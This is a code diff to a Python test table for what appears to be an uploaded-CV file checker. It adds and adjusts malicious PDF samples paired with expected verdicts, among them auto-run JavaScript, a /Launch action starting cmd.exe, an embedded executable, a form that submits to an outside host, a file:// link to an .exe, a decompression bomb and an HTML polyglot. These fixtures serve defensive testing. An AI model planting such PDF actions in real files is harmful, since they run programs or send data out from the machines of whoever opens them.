@@ -163,7 +163,7 @@ CONTENTS = [
     ("zeros", "cv.txt", b"a\0b", "unknown"),
     ("escape sequences", "cv.txt", b"\x1b[2J\x1b]0;x\x07", "unknown"),
     # PDF
-    ("PDF cut off", "cv.pdf", PDF[:-60], "broken"),
+    ("PDF cut in its first page", "cv.pdf", PDF[:150], "broken"),
     ("PDF of a header only", "cv.pdf", b"%PDF-1.4\n", "broken"),
     ("PDF without objects", "cv.pdf", b"%PDF-1.4\nstartxref\n9\n%%EOF", "broken"),
     ("PDF of no version", "cv.pdf", PDF.replace(b"PDF-1.7", b"PDF-<x>"), "broken"),
@@ -177,7 +177,7 @@ CONTENTS = [
     (
         "PDF with JavaScript on opening",
         "cv.pdf",
-        files.pdf(b"<< /OpenAction << /JS 9 0 R >> >>"),
+        files.pdf(b"<< /OpenAction << /S /JavaScript /JS 9 0 R >> >>"),
         "javascript",
     ),
     (
@@ -207,7 +207,7 @@ CONTENTS = [
     (
         "PDF with JavaScript in its trailer",
         "cv.pdf",
-        files.pdf(trailer=b"/Names << /JavaScript 9 0 R >>"),
+        files.pdf(trailer=b"/Names << /JavaScript << /Names [] >> >>"),
         "javascript",
     ),
     ("PDF that starts a program", "cv.pdf", files.pdf(b"<< /S /Launch /F (cmd.exe) >>"), "launch"),
@@ -228,9 +228,21 @@ CONTENTS = [
     (
         "PDF with a program named in UTF-16",
         "cv.pdf",
-        files.pdf(b"<< /UF <FEFF0061002E006500780065> /EF /EmbeddedFiles >>"),
+        files.pdf(
+            b"<< /UF <FEFF0061002E006500780065> /EF << /F 5 0 R >> >>",
+            files.pdf_stream(b"/Type /EmbeddedFile", EXE),
+        ),
         "embedded",
     ),
+    ("PDF of endless parts", "cv.pdf", files.pdf(b"[" + b"0 " * 1_600_000 + b"]"), "too_complex"),
+    (
+        "PDF with a part in another filter",
+        "cv.pdf",
+        files.pdf(files.pdf_stream(b"/Type /ObjStm /Filter /BrotliDecode", b"x")),
+        "unreadable",
+    ),
+    ("PDF that sends", "cv.pdf", files.pdf(b"<< /S /SubmitForm /F (http://x.example) >>"), "sends"),
+    ("PDF with a link", "cv.pdf", files.pdf(b"<< /S /URI /URI (file:///c:/a.exe) >>"), "link"),
     ("PDF with a film", "cv.pdf", files.pdf(b"<< /Subtype /RichMedia >>"), "embedded"),
     ("PDF bomb", "cv.pdf", files.pdf(files.packed_objects(bytes(65 * 1024**2))), "bomb"),
     ("PDF behind HTML", "cv.pdf", b"<html><script>x</script>" + PDF, "polyglot"),
